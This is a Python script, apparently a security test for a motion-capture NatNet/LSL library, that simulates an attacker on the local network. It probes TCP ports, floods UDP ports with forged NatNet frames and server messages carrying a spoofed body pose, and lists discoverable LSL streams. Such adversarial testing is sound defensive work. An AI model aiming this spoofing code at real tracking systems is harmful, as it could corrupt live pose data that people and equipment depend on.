"""Simulated attack from a neighbouring machine: python3 attacker.py ADDRESS JSON, where JSON lists [transport, port].

It connects to every TCP port, sends forged NatNet frames to every UDP port, and searches for LSL streams of sessions
with common names; prints the ports and streams that responded as JSON.
"""

import json
import socket
import sys
import time

import pylsl

from mocap_natnet.codec import Codec
from mocap_natnet.codec.descriptions import ServerModel
from mocap_natnet.codec.packets import NatNetMessage, packet
from mocap_natnet.codec.types import Frame, RigidBody, Suffix

FIRST = 10**6
"""Number of the first forged frame, larger than those of real frames."""


def answers(address: str, port: int) -> bool:
    """Return True if a program accepts a connection."""
    try:
        socket.create_connection((address, port), 0.3).close()
    except OSError:
        return False
    return True


def forge(address: str, ports: list[int], seconds: float) -> None:
    """Send forged frames with another pose of a body, forged descriptions, and forged responses."""
    codec = Codec((4, 1))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        end, number = time.monotonic() + seconds, FIRST
        while time.monotonic() < end:
            number += 1
            body = RigidBody(1, (0.5, 1.0, 0.25), (0.0, 0.0, 0.0, 1.0))
            frame = codec.encode_frame(Frame(number=number, bodies=(body,), suffix=Suffix(time_stamp=number / 120)))
            for port in ports:
                for datagram in (frame, codec.encode_model(ServerModel(())), packet(NatNetMessage.RESPONSE, b"\0")):
                    out.sendto(datagram, (address, port))
            time.sleep(0.005)


def main() -> None:
    address, sockets = sys.argv[1], json.loads(sys.argv[2])
    tcp, udp = ([port for kind, port in sockets if kind == wanted] for wanted in ("tcp", "udp"))
    opened = [port for port in tcp if answers(address, port)]
    forge(address, udp, 3.0)
    pylsl.set_config_content(
        f"[lab]\nSessionID = {sys.argv[3]}\nKnownPeers = {{{address}}}\n"
        "[multicast]\nResolveScope = site\n[log]\nlevel = -3\n"
    )
    streams = [info.name() for info in pylsl.resolve_streams(3.0)]
    print(json.dumps({"opened": opened, "streams": streams}))


if __name__ == "__main__":
    main()
